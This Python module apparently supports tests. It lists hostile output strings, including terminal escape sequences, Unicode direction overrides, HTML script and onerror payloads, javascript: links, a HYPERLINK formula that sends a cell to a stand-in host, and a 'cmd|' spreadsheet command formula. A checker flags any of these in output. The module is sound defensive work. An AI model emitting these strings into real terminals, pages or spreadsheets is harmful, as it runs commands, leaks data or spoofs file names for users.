"""Texts that a service may send to act on a terminal, a page or a spreadsheet."""

HOSTILE = {
    "clipboard": "\x1b]52;c;Y2FuYXJ5\x07",
    "title of the window": "\x1b]0;owned\x1b\\",
    "colours": "\x1b[31;5;7mred\x1b[2J\x1b[H",
    "controls of eight bits": "\x9b31m\x9d0;owned\x9c\x85",
    "overwritten": "good\r\x08\x08\x7fbad\x0b\x0c",
    "direction": "\u202egnp.exe\u202c \u202dabc",
    "isolates": "\u2066abc\u2069 \u2067def\u2068",
    "marks": "\u200ea\u200fb\u061cc",
    "without width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "lines": "a\u2028b\u2029c\nd",
    "tags": "a\U000e0041\U000e007fb",
    "annotations": "a\ufff9b\ufffac\ufffbd",
    "end of markup": "[/x]",
    "markup": "[bold red]x[/bold red][link=http://127.0.0.1:9/]y[/link]",
    "half of markup": "a [ b [/ c ] [[ \\[x] \\",
    "smileys": ":smile: :warning:",
    "html": "<script>alert(1)</script><img src=http://127.0.0.1:9/i.png onerror=alert(1)>",
    "picture": "![x](http://127.0.0.1:9/p.png)",
    "link": "[x](javascript:alert(1)) <javascript:alert(1)> www.example.com",
    "address": "Claim it at https://127.0.0.1:9/claim",
    "address of a word": "www.example.com/claim",
    "table": "a | b | `c` || \\| d",
    "formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "formula with a sign": "+1+cmd|' /C calc'!A0",
    "formula after a blank": "\t=1+1",
}
ACTING = (
    *map(chr, (*range(9), *range(11, 27), *range(28, 32), *range(127, 160))),
    *map(chr, (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070))),
    *("\u00ad", "\u061c", "\u180e", "\ufeff", "\ufff9", "\ufffa", "\ufffb"),
    *map(chr, range(0xE0000, 0xE0080)),
)
"""Characters that no output may contain. Rich writes ESC for colours: the text after is checked."""


def acting_in(output: str, *, on_terminal: bool = False) -> list[str]:
    """Return the parts of an output that would act on a terminal, except those that rich writes."""
    allowed = "\r" if on_terminal else ""
    found = [
        f"U+{ord(character):04X}"
        for character in ACTING
        if character in output and character not in allowed
    ]
    for after in output.split("\x1b")[1:]:
        if not on_terminal or after[:1] != "[" or after.startswith(("[31;5;7m", "[H")):
            found.append(f"ESC {after[:12]!r}")
    return found
